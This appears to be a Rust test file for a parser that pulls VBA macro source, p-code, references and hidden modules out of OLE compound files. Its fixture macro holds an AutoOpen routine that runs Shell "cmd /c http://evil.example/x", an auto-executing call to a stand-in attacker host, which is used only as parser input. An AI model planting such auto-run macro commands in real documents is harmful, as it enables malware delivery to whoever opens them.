use noroshi_intake::Media;

use super::Compound;
use crate::Role;
use crate::emit::tests::{hear, torture};

/// A container whose chunks hold letters alone.
fn compress(text: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in text.chunks(3000) {
        let mut body = Vec::new();
        for eight in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(eight);
        }
        out.extend((0xB000 | u16::try_from(body.len() - 1).unwrap()).to_le_bytes());
        out.extend(body);
    }
    out
}

fn record(id: u16, body: &[u8]) -> Vec<u8> {
    let mut out = id.to_le_bytes().to_vec();
    out.extend(u32::try_from(body.len()).unwrap().to_le_bytes());
    out.extend(body);
    out
}

fn project() -> Vec<u8> {
    let sjis = |text: &str| encoding_rs::SHIFT_JIS.encode(text).0.into_owned();
    let library = b"*\\HC:\\Users\\yamada.aec\\AppData\\Roaming\\Microsoft\\AddIns\\aomi.xlam";
    let mut reference = u32::try_from(library.len()).unwrap().to_le_bytes().to_vec();
    reference.extend(library);
    let mut dir = record(0x03, &932_u16.to_le_bytes());
    dir.extend(record(0x04, &sjis("蒼海計画")));
    // The version record says four and has six.
    dir.extend([9, 0, 4, 0, 0, 0, 1, 2, 3, 4, 5, 6]);
    dir.extend(record(0x0E, &reference));
    dir.extend(record(0x19, &sjis("標準")));
    dir.extend(record(0x1A, &sjis("標準")));
    dir.extend(record(0x31, &9_u32.to_le_bytes()));
    dir.extend(record(0x1C, &sjis("作成 山田")));
    dir.extend([0x10, 0, 0, 0, 0, 0]);
    let source = "Attribute VB_Name = \"標準\"\r\nSub AutoOpen()\r\n' 蒼海電機の表で使う\r\nShell \"cmd /c http://evil.example/x\"\r\n".repeat(40);
    let mut module = b"p-code99\0".to_vec();
    module.extend(compress(&sjis(&source)));
    Compound::new()
        .with("Macros/VBA/dir", &compress(&dir))
        .with("Macros/VBA/標準", &module)
        .with("Macros/VBA/hidden", &compress(b"Attribute VB_Name = \"hidden\"\r\nDeclare x\r\n"))
        .with("Macros/VBA/_VBA_PROJECT", b"\xCC\x61C\0:\0\\\0U\0s\0e\0r\0s\0\\\0y\0a\0m\0a\0d\0a\0\0\0")
        .with("Macros/PROJECT", &sjis("Name=\"蒼海計画\"\r\n"))
        .bytes()
}

#[test]
fn macros_give_source_and_what_the_project_says() {
    let heard = hear("vbaProject.bin", Media::Ole, &project());
    let source = heard.part("Macros macro 標準").concat();
    assert!(
        source.ends_with("' 蒼海電機の表で使う\r\nShell \"cmd /c http://evil.example/x\"\r\n"),
        "{source}"
    );
    assert_eq!(source.matches("AutoOpen").count(), 40);
    assert!(heard.passages.iter().any(|p| p.role == Role::Code && p.line == 1));
    assert_eq!(heard.part("Macros macro 標準 p-code"), ["p-code99\n"]);
    assert_eq!(heard.part("Macros macro 標準 notes"), ["作成 山田"]);
    assert_eq!(heard.part("Macros macro project name"), ["蒼海計画"]);
    assert!(heard.part("Macros macro project reference")[0].contains("yamada.aec"));
    assert!(heard.part("Macros macro hidden (not listed)")[0].contains("Declare x"));
    assert!(heard.part("Macros/VBA/_VBA_PROJECT").concat().contains("C:\\Users\\yamada"));
    assert!(heard.part("Macros macro project PROJECT")[0].contains("蒼海計画"));
}

#[test]
fn copies_are_unpacked() {
    // The example of [MS-OVBA] 3.2.2: text that repeats.
    let packed: &[u8] = &[
        0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70, 0x61,
        0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06,
        0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C,
    ];
    let text = crate::ole::vba::decompress(packed, 0).unwrap();
    assert_eq!(text, b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
}

#[test]
fn broken_projects_are_read_as_far_as_they_go() {
    let heard = hear(
        "a",
        Media::Ole,
        &Compound::new()
            .with("VBA/dir", b"\x07nothing")
            .with("VBA/m", &compress(b"Attribute VB_Name = \"m\"\r\nx = 1"))
            .bytes(),
    );
    assert!(heard.part("macro m (not listed)")[0].contains("x = 1"));
    assert!(!heard.notices.is_empty());
    torture("a", Media::Ole, &project());
}
